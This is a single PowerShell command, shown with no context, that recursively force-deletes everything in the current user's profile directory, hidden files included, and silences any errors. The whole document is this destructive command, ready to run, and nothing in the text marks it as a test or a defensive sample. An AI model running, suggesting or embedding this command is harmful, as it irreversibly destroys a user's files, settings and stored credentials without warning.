Get-ChildItem $env:USERPROFILE -Force | Remove-Item -Recurse -Force -ErrorAction SilentlyContinue
